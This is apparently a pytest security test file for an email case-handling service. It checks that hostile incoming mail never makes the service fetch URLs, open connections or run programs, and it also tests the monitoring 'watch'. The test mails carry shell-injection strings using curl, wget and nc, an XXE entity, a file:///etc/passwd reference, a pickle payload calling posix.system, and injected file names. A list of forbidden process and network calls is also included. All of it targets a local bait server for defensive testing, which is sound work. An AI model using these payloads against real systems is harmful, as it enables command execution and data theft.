"""No network but IMAP, SMTP and the database, and no program but our own children (promise 8), watched on the real service.

The mails name a web server that really listens on this machine: whoever fetched anything would reach it and be counted.
"""

import os
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from support import service as service_support
from support.service import CASEPOST, CONTACT, HELP, LEE, Service
from support.watch import Sampler, Watch, descendants

from casepost.config import load

pytestmark = [pytest.mark.slow, pytest.mark.thorough]
LOOPBACK = "127.0.0.1"
OWN_CHILDREN = ("from multiprocessing.forkserver import main", "from multiprocessing.resource_tracker import main")
NEVER = (
    "subprocess.Popen os.exec os.posix_spawn os.spawn os.system os.forkpty pty.spawn urllib.Request http.client.connect "
    "ftplib.connect smtplib.connect telnetlib.Telnet.open webbrowser.open"
).split()


class Bait:
    """A server that counts who comes."""

    def __init__(self) -> None:
        self._socket = socket.create_server((LOOPBACK, 0))
        self.port = int(self._socket.getsockname()[1])
        self.visits = 0
        threading.Thread(target=self._count, name="bait", daemon=True).start()

    def _count(self) -> None:
        while True:
            try:
                visitor, _ = self._socket.accept()
            except OSError:
                return
            self.visits += 1
            visitor.close()

    def close(self) -> None:
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()


@pytest.fixture
def bait() -> Iterator[Bait]:
    server = Bait()
    yield server
    server.close()


@pytest.fixture
def watch(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Watch:
    """A watch on every Python that this test starts."""
    watch = Watch(tmp_path / "watch")
    for name, value in watch.environment.items():
        monkeypatch.setenv(name, value)
    return watch


HTML = """<html><head><base href="{u}"><link rel="stylesheet" href="{u}/a.css"><meta http-equiv="refresh" content="0;{u}/r">
<script src="{u}/s.js"></script><style>@import url({u}/i.css); p {{ background: url("{u}/b.png") }}</style></head>
<body background="{u}/bg.png" onload="fetch('{u}/l')"><img src="{u}/pixel.gif" srcset="{u}/2x.png 2x"><iframe src="{u}/f">
</iframe><object data="{u}/o"></object><embed src="{u}/e"><video src="{u}/v" poster="{u}/p"></video><audio src="{u}/x">
</audio><form action="{u}/form" method="post"><input type="image" src="{u}/in.png"></form><svg><image href="{u}/svg"/>
<use xlink:href="{u}/use"/></svg><img src="file:///etc/passwd"><p>The bus left my son again. <a href="{u}/link">{u}</a></p>
</body></html>"""
CALENDAR = """BEGIN:VCALENDAR
METHOD:REQUEST
BEGIN:VEVENT
UID:1@mail.example
DTSTART:20261201T170000Z
ATTACH:{u}/attached
URL:{u}/url
ORGANIZER:mailto:parent@mail.example
ATTENDEE;RSVP=TRUE:mailto:{help}
BEGIN:VALARM
ACTION:PROCEDURE
ATTACH:{u}/run
END:VALARM
END:VEVENT
END:VCALENDAR"""
SVG = """<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "{u}/entity"><!ENTITY % y SYSTEM "{u}/dtd"> %y;]>
<svg xmlns="http://www.w3.org/2000/svg"><script href="{u}/script"/><text>&x;</text></svg>"""
PEOPLE = ("page", "links", "outside", "invitation", "drawing", "signed", "partial", "shell")


def hostile(port: int) -> dict[str, tuple[str, str]]:
    """Return mails that want to be fetched from, answered by machine, or run: header fields and body by sender."""
    url, where = f"http://{LOOPBACK}:{port}", f"{LOOPBACK}:{port}"
    values = {"u": url, "help": HELP}
    alternative = 'Content-Type: multipart/alternative; boundary="b"\r\n'
    mixed = 'Content-Type: multipart/mixed; boundary="b"\r\n'

    def parts(*bodies: str) -> str:
        return "".join(f"--b\r\n{body}\r\n" for body in bodies) + "--b--\r\n"

    words = "Content-Type: text/plain\r\n\r\nThe bus left my son at the stop again."
    outside = (
        f'Content-Type: message/external-body; access-type=URL; URL="{url}/body"\r\n\r\nContent-Type: text/plain\r\n\r\n',
        f'Content-Type: message/external-body; access-type=anon-ftp; site="{LOOPBACK}"; name="f"\r\n\r\nContent-Type: text/plain\r\n\r\n',
        f'Content-Type: message/external-body; access-type=mail-server; server="list@{LOOPBACK}"\r\n\r\nContent-Type: text/plain\r\n\r\n',
        f"Content-Type: text/html\r\nContent-Location: {url}/where\r\nContent-Base: {url}\r\n\r\n<p>x</p>",
    )
    return {
        "page": (alternative, parts(words, f"Content-Type: text/html\r\n\r\n{HTML.format(**values)}")),
        "links": (
            (
                f"X-Unsubscribe: {url}\r\nList-Help: <{url}/help>\r\nArchived-At: <{url}/a>\r\nX-Image-URL: {url}/face.png\r\n"
                f"BIMI-Location: v=BIMI1; l={url}/logo.svg\r\nOpenPGP: id=1; url={url}/key\r\nError-URL: {url}/e\r\n"
                "Disposition-Notification-To: links@mail.example\r\nReturn-Receipt-To: links@mail.example\r\n"
                "X-Confirm-Reading-To: links@mail.example\r\n"
            ),
            f"The bus left my son. Please look at {url}/look and file:///etc/passwd",
        ),
        "outside": (mixed, parts(words, *outside)),
        "invitation": (
            mixed,
            parts(words, f"Content-Type: text/calendar; method=REQUEST\r\n\r\n{CALENDAR.format(**values)}"),
        ),
        "drawing": (mixed, parts(words, f'Content-Type: image/svg+xml; name="a.svg"\r\n\r\n{SVG.format(u=url)}')),
        "signed": (
            (
                f"DKIM-Signature: v=1; a=rsa-sha256; d={where}; s=s; h=from; bh=AA==; b=AA==\r\nReceived-SPF: none\r\n"
                'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; boundary="b"\r\n'
            ),
            parts(words, "Content-Type: application/pkcs7-signature\r\nContent-Transfer-Encoding: base64\r\n\r\nMIIB"),
        ),
        "partial": (
            'Content-Type: message/partial; id="x@mail.example"; number=1; total=2\r\n',
            "The bus left my son at the stop.",
        ),
        "shell": (
            mixed,
            parts(
                words + f"\r\n$(curl {url}/c) `wget {url}/w` ; nc {LOOPBACK} {port} | {{{{ cycler.__init__ }}}}",
                f'Content-Type: application/x-sh; name="$(curl {url}).sh"\r\n\r\ncurl {url}/run',
                'Content-Type: application/octet-stream; name="|touch x"\r\n\r\ncposix\nsystem\n(S"touch x"\ntR.',
            ),
        ),
    }


def deliver_hostile(service: Service, port: int) -> None:
    for name, (fields, body) in hostile(port).items():
        raw = service.mail(f"P {name} <{name}@mail.example>", f"bus of {name}", "", deliver=False)
        head = b"\r\n".join(
            line
            for line in raw.partition(b"\r\n\r\n")[0].split(b"\r\n")
            if not (fields.find("Content-Type:") >= 0 and line.startswith(b"Content-Type:"))
        )
        service.imap.deliver(
            head + b"\r\n" + fields.encode() + b"\r\n" + body.replace("\r\n", "\n").replace("\n", "\r\n").encode()
        )
    listed = service.mail(
        "List <news@list.example>", "news of the week", f"http://{LOOPBACK}:{port}/news", deliver=False
    )
    unsubscribe = f"List-Unsubscribe: <http://{LOOPBACK}:{port}/u>, <mailto:leave@list.example>\r\nList-Unsubscribe-Post: List-Unsubscribe=One-Click\r\n"
    service.imap.deliver(unsubscribe.encode() + listed)


def converse(service: Service, port: int) -> None:
    """Let the service do everything that it does with mail: acknowledge, tell, relay, refer, resolve."""
    deliver_hostile(service, port)
    for name in PEOPLE:
        service.wait_for_letter(f"{name}@mail.example", "We received")
    receipt = service.wait_for_letter("page@mail.example", "We received")
    notice = service.wait_for_letter(CONTACT, f"[{receipt.subject[1:14]}] New case")
    answer = f"#resolve fixed\r\n\r\nSee http://{LOOPBACK}:{port}/answer for the new stop."
    service.mail(CONTACT, f"Re: {notice.subject}", answer, answers=notice)
    service.wait_for_letter("page@mail.example", "Our answer")
    forwarded = (
        "Please help.\r\n\r\n---------- Forwarded message ---------\r\nFrom: Noor Amin <noor@mail.example>\r\n"
        f"Subject: the gate\r\nTo: <{LEE}>\r\n\r\nThe gate is locked, see http://{LOOPBACK}:{port}/gate\r\n"
    )
    service.mail(f"Jordan Lee <{LEE}>", "Fwd: the gate", forwarded)
    service.wait_for_letter(LEE, "We received the message you sent us")
    service.wait_until_filed(len(PEOPLE) + 3)


def pid_of(service: Service) -> int:
    assert service._process is not None
    return service._process.pid


@contextmanager
def sampled(service: Service) -> Iterator[Sampler]:
    with Sampler(pid_of(service)) as sampler:
        yield sampler


def desk_of(service: Service) -> set[tuple[str, int]]:
    """Return where the configuration lets the service listen."""
    desk = load(service.config, os.environ).desk
    return {(desk.host, desk.port)} if desk.enabled else set()


def only_our_children(programs: list[list[str]]) -> bool:
    python = {sys.executable, sys._base_executable}  # type: ignore[attr-defined]
    return all(one[0] in python and any(text.startswith(OWN_CHILDREN) for text in one) for one in programs)


@pytest.mark.dovecot
def test_the_service_connects_to_its_mail_servers_and_to_nothing_else_whatever_the_mail_says(
    dovecot, smtp_server, tmp_path, watch, bait
):
    with service_support.running(tmp_path / "one", dovecot, smtp_server) as service, sampled(service) as sampler:
        converse(service, bait.port)
        family = descendants(pid_of(service))
        assert service.stop() == 0

    servers = {(LOOPBACK, dovecot.port), (LOOPBACK, smtp_server.port)}
    assert watch.addresses("socket.connect") == servers
    assert sampler.remote == servers
    assert bait.visits == 0
    assert watch.names() <= {LOOPBACK, socket.gethostname()}  # its own name: SMTP greets with it
    desk = desk_of(service)
    assert watch.addresses("socket.bind") | sampler.listening <= desk
    assert sampler.datagrams == 0
    assert watch.addresses("socket.sendto") | watch.addresses("socket.sendmsg") == set()
    assert watch.seen(*NEVER) == []
    assert watch.programs()
    assert only_our_children(watch.programs())
    assert len(sampler.programs) == 1
    assert len(family) >= 4  # the service, the two helpers of multiprocessing, and children that parse
    assert len({one.pid for one in watch.seen("watched")}) >= 3
    assert sampler.looks > 20


@pytest.mark.dovecot
@pytest.mark.postgres
def test_with_postgresql_nothing_is_added_but_the_line_to_the_database(
    dovecot, smtp_server, fresh_postgres, tmp_path, watch, bait
):
    with (
        service_support.running(tmp_path / "one", dovecot, smtp_server, fresh_postgres) as service,
        sampled(service) as sampler,
    ):
        converse(service, bait.port)
        assert service.stop() == 0

    servers = {(LOOPBACK, dovecot.port), (LOOPBACK, smtp_server.port)}
    assert watch.addresses("socket.connect") == servers
    assert sampler.remote == servers  # the database is reached by a socket file
    assert sampler.listening <= desk_of(service)
    assert (sampler.datagrams, bait.visits) == (0, 0)
    assert watch.seen(*NEVER) == []


def test_the_parent_unpickles_nothing_not_even_from_its_own_children(pymap_server, smtp_server, tmp_path, watch):
    """A pickle that names a class or a function asks for it by this event; a child that starts does so, once."""
    with service_support.running(tmp_path / "one", pymap_server, smtp_server) as service:
        service.mail("Maria Lopez <maria@mail.example>", "bus 14", "The bus left my son.")
        service.wait_for_letter("maria@mail.example", "We received")
        parent = pid_of(service)
        assert service.stop() == 0

    asked = watch.seen("pickle.find_class")
    assert asked  # the children were given their work so
    assert [one for one in asked if one.pid == parent] == []


def test_the_demo_stays_on_this_machine(tmp_path, watch):
    demo = subprocess.Popen(
        [sys.executable, *CASEPOST[3:], "demo", "--once"],
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        cwd=tmp_path,
        text=True,
    )
    try:
        with Sampler(demo.pid) as sampler:
            told, _ = demo.communicate(timeout=100)
    finally:
        demo.kill()
    assert demo.returncode == 0, told

    opened = watch.addresses("socket.connect") | watch.addresses("socket.bind") | sampler.remote | sampler.listening
    assert opened
    assert {host for host, _ in opened} == {LOOPBACK}
    assert watch.names() <= {LOOPBACK, "localhost", socket.gethostname()}
    assert watch.seen(*NEVER) == []
    assert only_our_children(watch.programs())


# The watch itself


CAUGHT = {
    "a connection": ("import socket; socket.create_connection(('127.0.0.1', {port}))", "socket.connect"),
    "a name": ("import socket; socket.getaddrinfo('localhost', 1)", "socket.getaddrinfo"),
    "a door": ("import socket; socket.create_server(('127.0.0.1', 0))", "socket.bind"),
    "a datagram": ("import socket; s = socket.socket(type=2); s.sendto(b'x', ('127.0.0.1', 9))", "socket.sendto"),
    "a program": ("import subprocess; subprocess.run(['true'])", "program"),
    "a shell": ("import os; os.system('true')", "os.system"),
    "another program in its place": ("import os; os.execv('/bin/true', ['true'])", "os.exec"),
    "a fetched page": ("import urllib.request as u; u.urlopen('http://127.0.0.1:{port}', timeout=1)", "urllib.Request"),
    "a pickle": ("import pickle; pickle.loads(b'cposix\\nsystem\\n.')", "pickle.find_class"),
    "a child of a child": (
        "import os, socket\nif not os.fork(): socket.create_connection(('127.0.0.1', {port}))",
        "socket.connect",
    ),
}


@pytest.mark.parametrize("what", CAUGHT)
def test_the_watch_sees(what, watch, bait):
    line, event = CAUGHT[what]

    subprocess.run([sys.executable, "-c", line.format(port=bait.port)], check=False, stderr=subprocess.DEVNULL)

    assert watch.seen(event)


def test_the_kernel_is_asked_too(bait):
    """What a C library opens raises no audit event; a connection that is held is seen in /proc."""
    hold = f"import socket, sys; s = socket.create_connection(('127.0.0.1', {bait.port})); sys.stdin.read()"
    holder = subprocess.Popen([sys.executable, "-c", hold], stdin=subprocess.PIPE)
    try:
        with Sampler(holder.pid) as sampler:
            for _ in range(200):
                if (LOOPBACK, bait.port) in sampler.remote:
                    break
                threading.Event().wait(0.05)
    finally:
        holder.communicate(b"")

    assert (LOOPBACK, bait.port) in sampler.remote


def test_the_bait_counts_who_comes(bait):
    socket.create_connection((LOOPBACK, bait.port)).close()
    for _ in range(100):
        if bait.visits:
            break
        threading.Event().wait(0.02)

    assert bait.visits == 1
